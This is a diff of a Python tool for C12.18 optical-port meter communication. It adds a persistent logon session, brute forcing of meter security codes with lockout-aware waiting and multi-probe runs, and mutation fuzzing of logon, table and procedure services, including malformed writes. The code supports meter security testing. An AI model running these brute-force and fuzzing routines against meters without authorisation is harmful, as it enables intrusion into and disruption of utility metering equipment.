         print "    Enter minutes in subinterval. Value 0 - 255. Hit enter to keep original value."
         sub_data_str  = raw_input(data_menu_default)
         if sub_data_str:
-            new_data[0]  = bt.str2hex(sub_data_str)
+            new_data[offset]  = bt.str2hex(sub_data_str)
         print "    Enter Sub_Int Multiplier. Value 0 - 255. Hit enter to keep original value."
         int_data_str  = raw_input(data_menu_default)
         if int_data_str:
-            new_data[1]  = bt.str2hex(int_data_str)
+            new_data[offset + 1]  = bt.str2hex(int_data_str)
         new_data = ''.join(new_data)
     else:
         print "    Enter minutes in demand interval. Value 0 - 65535. Hit enter to keep original value."
         data_str  = raw_input(data_menu_default)
         if data_str:
             data_str  = bt.str2hex(data_str)
-            new_data[0] = data_str[0]
-            new_data[1] = data_str[1]
+            new_data[offset] = data_str[0]
+            new_data[offset + 1] = data_str[1]
         else:
             return
         new_data = ''.join(new_data)
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
     
@@ -1752,13 +2184,11 @@ def do_action_twrite13(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("\nData Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("\nTable " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("\nTable " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Logoff early because we are just parsing from here
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1766,17 +2196,9 @@ def do_action_twrite13(optic):
     print "\nParsed Table 13 Demand Control Table Data:",bt.print_data(r_data),"\n"
     if optic.ONF: optic.ONF.write("\nParsed Table 13 Demand Control Table Data: " + bt.print_data(r_data) + "\n\n")
 
-    if source_flags_bfld:
-        sub_int        = r_data[0]
-        int_multiplier = r_data[1]
-        print 'Minutes in subinterval',bt.print_data(sub_int)
-        if optic.ONF: optic.ONF.write("\nMinutes in subinterval: " + bt.print_data(sub_int) + "\n\n")
-        print 'Sub_Int Multiplier',bt.print_data(int_multiplier)
-        if optic.ONF: optic.ONF.write("\nSub_Int Multiplier: " + bt.print_data(int_multiplier) + "\n\n")
-    else:
-        int_length     = r_data[0:2]
-        print 'Minutes in demand interval',bt.print_data(int_length)
-        if optic.ONF: optic.ONF.write("\nMinutes in demand interval: " + bt.print_data(int_length) + "\n\n")
+    table13 = decoder.decode(table_num, r_data)
+    if table13 and table13['interval_value']:
+        print_demand_ctrl(optic, table13)
 
     # Return
     return
@@ -1810,13 +2232,8 @@ def do_action_tmeterld0(optic):
     # Get Table information
     table_num  = 111     
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -1832,12 +2249,11 @@ def do_action_tmeterld0(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1904,25 +2320,18 @@ def do_action_tmeterld0(optic):
     # Setup meter connection
     print "Logging on as User: ",user_num
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon passwd failed."
-        return
-
     # Run Procedure
     if not optic.packet.run_proc(optic.SER_CONN0, proc_num, data_str):
         print "Run procedure failed."
         return
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -1956,13 +2365,8 @@ def do_action_tmeterld100(optic):
     # Get Table information
     table_num  = 111      # Configuration Table is Table 00
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -1978,12 +2382,11 @@ def do_action_tmeterld100(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -2050,25 +2453,18 @@ def do_action_tmeterld100(optic):
     print "Logging on as User: ",user_num
     if optic.ONF: optic.ONF.write("Logging on as User: " + str(user_num) + "\n")
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon passwd failed."
-        return
-
     # Run Procedure
     if not optic.packet.run_proc(optic.SER_CONN0, proc_num, data_str):
         print "Run procedure failed."
         return
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -2108,7 +2504,7 @@ def do_action_fuzz_sec(optic):
     # Force the user to use a capitol Y
     if chg_pwd == 'Y':
 
-        file_name = raw_input(file_menu)
+        file_name = raw_input(source_menu)
         if file_name:
             passwd_file = file_name
         else:
@@ -2117,12 +2513,11 @@ def do_action_fuzz_sec(optic):
         print "Using password file:",passwd_file
         if optic.ONF: optic.ONF.write("Using password file: " + passwd_file +"\n")
 
-        # Open file and grab contents 21 bytes at a time
-        # Strip new line character off end and use raw bytes
-        # as the password
-        passwds = [binascii.a2b_hex(l.strip()) for l in open(passwd_file,'rb')]
+        # Stream the file instead of loading it, the fuzz passwords follow it
+        passwds = brute_source(passwd_file)
+        if passwds == None:
+            return
 
-        fpasswds = passwds
 
     else:
         print "Not using password file."
@@ -2164,37 +2559,46 @@ def do_action_fuzz_sec(optic):
     if not optic.packet.login_user(optic.SER_CONN0, user_num):
         print "Logon setup failed. Try restarting."
         return
+    brute_ledger(optic, user_num)
 
-    # Roll through security codes
-    for passwd in fpasswds:
-        print "Using password:",bt.print_data(passwd)
-        if optic.ONF: optic.ONF.write("Using password:" + bt.print_data(passwd) + "\n")
+    # Roll through security codes, skipping file codes that failed in earlier runs. Packets
+    # are built ahead and the output is written behind
+    candidates = brute_pipeline(optic, enumerate(itertools.chain(brute_unknown(optic, passwds), fpasswds)))
+    writer = c12pipeline.LOG_WRITER(optic.ONF)
+    try:
+        for idx, passwd, skip, data, frames in candidates:
+            writer.write("Using password: %s", passwd)
 
-        # Send security code
-        if optic.packet.login_passwd(optic.SER_CONN0, passwd):
-            print "   Logon Successful"
-            if optic.ONF: optic.ONF.write("   Logon Successful\n")
+            # Send security code
+            optic.packet.set_prebuilt(data, frames)
+            if optic.packet.login_passwd(optic.SER_CONN0, passwd):
+                writer.write("   Logon Successful")
+                brute_record(optic, None, 0, passwd, c12checkpoint.ATTEMPT_OK, writer)
 
-            # Logoff
-            #if not optic.packet.send_logoff(optic.SER_CONN0):
-            if not optic.packet.send_terminate(optic.SER_CONN0):
-                print "Logoff failed."
+                # Logoff
+                #if not optic.packet.send_logoff(optic.SER_CONN0):
+                if not optic.packet.send_terminate(optic.SER_CONN0):
+                    writer.show("Logoff failed.")
 
-            # Setup meter connection
-            if not optic.packet.login_setup(optic.SER_CONN0):
-                print "Logon setup failed."
-                return
+                # Setup meter connection
+                if not optic.packet.login_setup(optic.SER_CONN0):
+                    writer.show("Logon setup failed.")
+                    return
 
-            # Logon
-            if not optic.packet.login_user(optic.SER_CONN0, user_num):
-                print "Logon setup failed. Try restarting."
-                break
-        else:
-            print "   Logon Failed"
-            if optic.ONF: optic.ONF.write("   Logon Failed\n")
+                # Logon
+                if not optic.packet.login_user(optic.SER_CONN0, user_num):
+                    writer.show("Logon setup failed. Try restarting.")
+                    break
+            else:
+                writer.write("   Logon Failed")
+                brute_record(optic, None, 0, passwd, brute_result(optic), writer)
 
-        # Pause allows meter to remain stable
-        c12packet.delay(c12packet.logon_pause)
+            # Pause allows meter to remain stable
+            c12packet.delay(c12packet.logon_pause)
+    finally:
+        candidates.close()
+        writer.close()
+        optic.packet.set_prebuilt()
 
     print "Fuzz Security Code Function completed"
     if optic.ONF: optic.ONF.write("Fuzz Security Code function completed\n")
@@ -2235,7 +2639,7 @@ def do_action_alt_fuzz_sec(optic):
     # Force the user to use a capitol Y
     if chg_pwd == 'Y':
 
-        file_name = raw_input(file_menu)
+        file_name = raw_input(source_menu)
         if file_name:
             passwd_file = file_name
         else:
@@ -2244,12 +2648,11 @@ def do_action_alt_fuzz_sec(optic):
         print "Using password file:",passwd_file
         if optic.ONF: optic.ONF.write("Using password file: " + passwd_file +"\n")
 
-        # Open file and grab contents 21 bytes at a time
-        # Strip new line character off end and use raw bytes
-        # as the password
-        passwds = [binascii.a2b_hex(l.strip()) for l in open(passwd_file,'rb')]
+        # Stream the file instead of loading it, the fuzz passwords follow it
+        passwds = brute_source(passwd_file)
+        if passwds == None:
+            return
 
-        fpasswds = passwds
     else:
         print "Not using password file."
         if optic.ONF: optic.ONF.write("Not using password file\n")
@@ -2290,57 +2693,210 @@ def do_action_alt_fuzz_sec(optic):
     if not optic.packet.login_user(optic.SER_CONN0, user_num):
         print "Logon setup failed. Try restarting."
         return
+    brute_ledger(optic, user_num)
 
-    # Loop thru security codes
-    for passwd in fpasswds:
-        print "Using password:",bt.print_data(passwd)
-        if optic.ONF: optic.ONF.write("Using password:" + bt.print_data(passwd) + "\n")
+    # Loop thru security codes, skipping file codes that failed in earlier runs. Packets
+    # are built ahead and the output is written behind
+    candidates = brute_pipeline(optic, enumerate(itertools.chain(brute_unknown(optic, passwds), fpasswds)))
+    writer = c12pipeline.LOG_WRITER(optic.ONF)
+    try:
+        for idx, passwd, skip, data, frames in candidates:
+            writer.write("Using password: %s", passwd)
+
+            # Send security code
+            optic.packet.set_prebuilt(data, frames)
+            if optic.packet.login_passwd(optic.SER_CONN0, passwd):
+
+                # For Alternate Fuzz Security Code we need to test
+                # successful logins by reading a restricted table
+                table_num = 45
+
+                # Read Table
+                results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
+                if results[0]:
+                    writer.write("   Logon Successful")
+                    brute_record(optic, None, 0, passwd, c12checkpoint.ATTEMPT_OK, writer)
+
+                    # Logoff
+                    #if not optic.packet.send_logoff(optic.SER_CONN0):
+                    if not optic.packet.send_terminate(optic.SER_CONN0):
+                        writer.show("Logoff failed.")
+                        break
+
+                    # Setup meter connection
+                    if not optic.packet.login_setup(optic.SER_CONN0):
+                        writer.show("Logon setup failed.")
+                        return
+
+                    # Logon
+                    if not optic.packet.login_user(optic.SER_CONN0, user_num):
+                        writer.show("Logon setup failed. Try restarting.")
+                        break
+                else:
+                    writer.write("   Logon Failed")
+                    brute_record(optic, None, 0, passwd, brute_result(optic), writer)
+            else:
+                writer.write("   Passwd Failed")
+                brute_record(optic, None, 0, passwd, brute_result(optic), writer)
 
-        # Send security code
-        if optic.packet.login_passwd(optic.SER_CONN0, passwd):
+            # Pause allows meter to remain stable
+            c12packet.delay(c12packet.sec_pause)
+    finally:
+        candidates.close()
+        writer.close()
+        optic.packet.set_prebuilt()
 
-            # For Alternate Fuzz Security Code we need to test
-            # successful logins by reading a restricted table
-            table_num = 45
+    print "Alternate Fuzz Security Code Function completed"
+    if optic.ONF: optic.ONF.write("Alternate Fuzz Security Code function completed\n")
 
-            # Read Table
-            results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
-            if results[0]:
-                print "   Logon Successful"
-                if optic.ONF: optic.ONF.write("   Logon Successful\n")
+    # Return
+    return
+############################
+# End Alternate Fuzz Security Code
+############################
 
-                # Logoff
-                #if not optic.packet.send_logoff(optic.SER_CONN0):
-                if not optic.packet.send_terminate(optic.SER_CONN0):
-                    print "Logoff failed."
-                    break
+############################
+# Mutation Fuzz Security and Logon
+############################
+def do_action_mfuzz(optic):
+    '''
+    Action: Mutation Fuzz the Security and Logon services. This function sends security
+    codes and logon requests with mutated lengths, padding, user numbers, and user
+    strings. Responses are grouped by response code, length, and timing and the kinds of
+    mutations that keep producing responses already seen are sent less often. The first
+    request of every kind of response is reported.
 
-                # Setup meter connection
-                if not optic.packet.login_setup(optic.SER_CONN0):
-                    print "Logon setup failed."
-                    return
+    Note: this run is timed.
+    '''
 
-                # Logon
-                if not optic.packet.login_user(optic.SER_CONN0, user_num):
-                    print "Logon setup failed. Try restarting."
-                    break
-            else:
-                print "   Logon Failed"
-                if optic.ONF: optic.ONF.write("   Logon Failed\n")
+    print "Running: Mutation Fuzz Security and Logon Function"
+    if optic.ONF: optic.ONF.write("Running: Mutation Fuzz Security and Logon Function\n")
+
+    # Get new user number or use default from configuration file
+    user_num = raw_input(user_menu)
+    if user_num == '':
+        user_num = optic.USER_NUM
+    else:
+        user_num = int(user_num)
+    print "Fuzzing as User: ",user_num
+    if optic.ONF: optic.ONF.write("Fuzzing as User: " + str(user_num) + "\n")
+
+    service = raw_input(mfuzz_menu)
+    count = raw_input(attempts_menu)
+    if count == '':
+        count = c12fuzzer.FUZZ_ATTEMPTS
+    else:
+        count = int(count)
+
+    fuzzer = c12fuzzer.FUZZER(optic.packet, optic.SER_CONN0, user_num, optic.PASSWD, onf = optic.ONF)
+    fuzzer.debug = optic.DEBUG
+    if service in ('', '0', '2'):
+        for family in c12fuzzer.security_families(fuzzer.rand, optic.PASSWD):
+            fuzzer.add(family)
+    if service in ('', '1', '2'):
+        for family in c12fuzzer.logon_families(fuzzer.rand, user_num):
+            fuzzer.add(family)
+    if not fuzzer.families:
+        print "Unknown service:",service
+        return
+
+    print "Mutation Fuzz Start Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Mutation Fuzz Start Time: " + time.strftime('%X %x %Z') + "\n")
+
+    fuzzer.run(count)
+    for line in fuzzer.report():
+        print line
+        if optic.ONF: optic.ONF.write(line + "\n")
+
+    print "Mutation Fuzz Stop Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Mutation Fuzz Stop Time: " + time.strftime('%X %x %Z') + "\n")
+
+    # Return
+    return
+############################
+# End Mutation Fuzz Security and Logon
+############################
+
+############################
+# Mutation Fuzz Table and Procedure Services
+############################
+def do_action_tfuzz(optic):
+    '''
+    Action: Mutation Fuzz the table read, table write, and procedure services. This
+    function logs on once and sends reads with unexpected table numbers, offsets, and
+    counts. Writes and procedures are only sent when a table or procedures are given.
+    Writes always carry a wrong count or checksum. Procedures run with mutated
+    parameters, so only list procedures that are safe to run on this meter. Meters that
+    stop answering are logged on again and fuzzing goes on.
+
+    Note: this run is timed.
+    '''
+
+    print "Running: Mutation Fuzz Table and Procedure Function"
+    if optic.ONF: optic.ONF.write("Running: Mutation Fuzz Table and Procedure Function\n")
+
+    # Get new user number or use default from configuration file
+    user_num = raw_input(user_menu)
+    if user_num == '':
+        user_num = optic.USER_NUM
+    else:
+        user_num = int(user_num)
+    print "Fuzzing as User: ",user_num
+    if optic.ONF: optic.ONF.write("Fuzzing as User: " + str(user_num) + "\n")
+
+    tables = raw_input(ftable_menu)
+    if tables == '':
+        tables = None
+    else:
+        tables = [int(e) for e in tables.split(',') if e.strip()]
+    write_table = raw_input(fwrite_menu)
+    if write_table == '':
+        write_table = None
+    else:
+        write_table = int(write_table)
+    procs = raw_input(fproc_menu)
+    procs = [int(e) for e in procs.split(',') if e.strip()]
+    count = raw_input(attempts_menu)
+    if count == '':
+        count = c12fuzzer.FUZZ_ATTEMPTS
+    else:
+        count = int(count)
+
+    fuzzer = c12fuzzer.FUZZER(optic.packet, optic.SER_CONN0, user_num, optic.PASSWD, onf = optic.ONF)
+    fuzzer.debug = optic.DEBUG
+
+    # Aim partial reads at the tables the meter lists in Table 00, which takes a logon
+    catalog = None
+    if fuzzer.reach(c12fuzzer.STATE_AUTH):
+        catalog = meter_catalog(optic)
+    if tables == None:
+        if catalog:
+            tables = sorted(catalog.tables)
         else:
-            print "   Passwd Failed"
-            if optic.ONF: optic.ONF.write("   Passwd Failed\n")
+            tables = [0, 1]
+    if write_table != None and catalog and not catalog.is_writable(write_table):
+        print "Table",write_table,"is not listed as writable in Table 00"
+        if optic.ONF: optic.ONF.write("Table " + str(write_table) + " is not listed as writable in Table 00\n")
+    procs = catalog_filter(optic, catalog, procs, procedures = True)
 
-        # Pause allows meter to remain stable
-        c12packet.delay(c12packet.sec_pause)
+    for family in c12fuzzer.table_families(fuzzer.rand, optic.packet, tables, write_table, procs):
+        fuzzer.add(family)
 
-    print "Alternate Fuzz Security Code Function completed"
-    if optic.ONF: optic.ONF.write("Alternate Fuzz Security Code function completed\n")
+    print "Mutation Fuzz Start Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Mutation Fuzz Start Time: " + time.strftime('%X %x %Z') + "\n")
+
+    fuzzer.run(count)
+    for line in fuzzer.report():
+        print line
+        if optic.ONF: optic.ONF.write(line + "\n")
+
+    print "Mutation Fuzz Stop Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Mutation Fuzz Stop Time: " + time.strftime('%X %x %Z') + "\n")
 
     # Return
     return
 ############################
-# End Alternate Fuzz Security Code
+# End Mutation Fuzz Table and Procedure Services
 ############################
 
 ##########################################################
@@ -2359,6 +2915,9 @@ class c12_optic():
         self.USER_NUM       = 2
         self.INVERT         = 0
         self.NEGO_ON        = False
+        self.PACING_ON      = True
+        self.CATALOG_ON     = True      # Skip tables and procedures not listed in Table 00
+        self.BRUTE_RECOVER_LIMIT = 4 * 3600     # Seconds to wait for a locked out meter
         self.PASSWD_FILE    = ''
         self.LOG_DIR        = os.path.join(os.path.abspath(os.curdir),'logs')
         if not os.path.isdir(self.LOG_DIR):
@@ -2368,6 +2927,17 @@ class c12_optic():
 
         # Parse configuration file
         self.config()
+        self.PACING_FILE    = os.path.join(self.LOG_DIR,'c1218_pacing.json')
+        c12pacing.load_profiles(self.PACING_FILE)
+        self.LOCKOUT_FILE   = os.path.join(self.LOG_DIR,'c1218_lockout.json')
+        c12scheduler.load_profiles(self.LOCKOUT_FILE)
+        self.LEDGER_FILE    = os.path.join(self.LOG_DIR,'c1218_ledger.db')
+        self.ledger         = c12ledger.LEDGER(self.LEDGER_FILE)
+        self.FINGERPRINT    = None      # Meter model from Table 01, keys the ledger
+        self.CATALOG_FILE   = os.path.join(self.LOG_DIR,'c1218_catalog.json')
+        c12catalog.load_catalogs(self.CATALOG_FILE)
+        self.SNAPSHOT_FILE  = os.path.join(self.LOG_DIR,'c1218_snapshots.db')
+        self.snapshots      = c12snapshot.SNAPSHOTS(self.SNAPSHOT_FILE)
 
         # Try to write output to a file
         # Output will also be written to STDOUT
@@ -2387,6 +2957,12 @@ class c12_optic():
         self.packet = self.config_packet()
         self.packet.set_debug(self.DEBUG)
         self.packet.set_nego(self.NEGO_ON)
+        self.packet.set_pacing(self.PACING_ON)
+        self.packet.set_snapshots(self.snapshots)
+
+        # Keep one authenticated session open across actions
+        self.session = c12session.SESSION(self.packet, self.SER_CONN0)
+        self.session.debug = self.DEBUG
 
         if self.DEBUG: print 'Debug:',self.DEBUG
         if self.DEBUG: print 'config file:',self.CONFIG_FILE
@@ -2400,6 +2976,11 @@ class c12_optic():
         if self.DEBUG: print 'Negotiation:',self.NEGO_ON
         if self.DEBUG: print 'passwd_file:',self.PASSWD_FILE
         if self.DEBUG: print 'log_dir:',self.LOG_DIR
+        if self.DEBUG: print 'pacing_file:',self.PACING_FILE
+        if self.DEBUG: print 'lockout_file:',self.LOCKOUT_FILE
+        if self.DEBUG: print 'ledger_file:',self.LEDGER_FILE
+        if self.DEBUG: print 'catalog_file:',self.CATALOG_FILE
+        if self.DEBUG: print 'snapshot_file:',self.SNAPSHOT_FILE
 
     def config(self):
         '''Process configuration file.'''
@@ -2478,6 +3059,13 @@ action_menu = [ \
     ["Reset Serial", do_action_srestart ], \
     ["Toggle Debug", do_action_tdebug ], \
     ["Toggle Invert", do_action_tinvert ], \
+    ["Toggle Pacing", do_action_tpacing ], \
+    ["Read Table Range", do_action_pread ], \
+    ["Run on Multiple Probes", do_action_parallel ], \
+    ["Brute Force Logon on Multiple Probes", do_action_pbrute ], \
+    ["Mutation Fuzz Security and Logon", do_action_mfuzz ], \
+    ["Mutation Fuzz Table and Procedure Services", do_action_tfuzz ], \
+    ["Toggle Table 00 Catalog", do_action_tcatalog ], \
 ]
 
 # User Menus
@@ -2491,10 +3079,22 @@ decade_menu = "\n   Enter Decade Number. Standard Decades are 0 through 16.  Man
 proc_menu   = "\n   0) Standard Procedure\n   1) Manufacturer Procedure\n   Enter Procedure Type: " 
 mproc_menu  = "\n   Enter comma separated list of procedures. For example: 1,2,3,4\n   Enter Tables: "
 num_menu    = "\n   Enter Number: "
+offset_menu = "\n   Enter Starting Offset. Hit enter for 0: "
+count_menu  = "\n   Enter Number of Bytes. Hit enter to read to the end of the table: "
 data_menu_no_default   = "\n   Data Entry must be hex data entered as straight ascii.\n   For example: \\xee\\xff\\x00\\x01 == eeff0001\n   To cancel just hit enter.\n   Enter data: "
 data_menu_default   = "\n   Data Entry must be hex data entered as straight ascii.\n   For example: \\xee\\xff\\x00\\x01 == eeff0001\n   To use default value just hit enter.\n   Enter data: "
 userid_menu = "\n   This only tests if a particular User number and identification string is accepted by the meter.\n   It does not send any security codes.\n   Enter User Identification String (max: 10 character): "
 file_menu   = "\n   Enter file name. Press enter for default: "
+source_menu = "\n   Enter file name, bin:<file>, mask:<mask>, pin:<min>-<max>, or charset:<chars>:<min>-<max>.\n   Use rank:<source>,dump:<file> to try defaults and likely codes first. Press enter for default: "
+resume_menu = "\n   Resume from the previous run? (Y/n): "
+reaudit_menu = "\n   Skip tables unchanged since the last audit? (y/N): "
+ports_menu  = "\n   Enter comma separated list of serial ports.\n   For example: /dev/ttyUSB0,/dev/ttyUSB1\n   Press enter for the configured port: "
+parallel_menu = "\n   0) Test Logon\n   1) Read Tables\n   2) Run Procedures\n   Enter Action: "
+mfuzz_menu = "\n   0) Security\n   1) Logon\n   2) Both\n   Enter Service. Hit enter for both: "
+ftable_menu = "\n   Enter comma separated list of tables to read at fuzzed offsets.\n   Hit enter for the tables listed in Table 00: "
+fwrite_menu = "\n   Enter Table to send malformed writes to. Hit enter to send no writes: "
+fproc_menu  = "\n   Enter comma separated list of procedures that are safe to run with fuzzed parameters.\n   Hit enter to run no procedures: "
+attempts_menu = "\n   Enter Number of Attempts. Hit enter for default: "
 pwd_menu   = "\n   Pick a password to test.  Data Entry must be hex data entered as straight ascii.\n   For example: \\xee\\xff\\x00\\x01 == eeff0001\n   To use default just hit enter.\n   Enter data: "
 ######################################
 
@@ -2536,8 +3136,19 @@ while (True):
 
     action_num = raw_input('Enter Action Selection: ')
     try:
-        action_num = int(action_num)
-        action_menu[action_num][1](optic)
+        action = action_menu[int(action_num)][1]
     except (ValueError, IndexError):
         print "Error: action must be a number from 0 to {0}".format(len(action_menu))
+        continue
+    # Keepalive stays off while an action talks to the meter
+    optic.session.hold()
+    try:
+        action(optic)
+    except (ValueError, IndexError), e:
+        # Such as a typo at a number prompt, go back to the menu
+        print "Error: invalid input:",e
+    finally:
+        # Even when the action fails, keep the session alive and commit its snapshots
+        optic.session.end()
+        optic.snapshots.sync()
 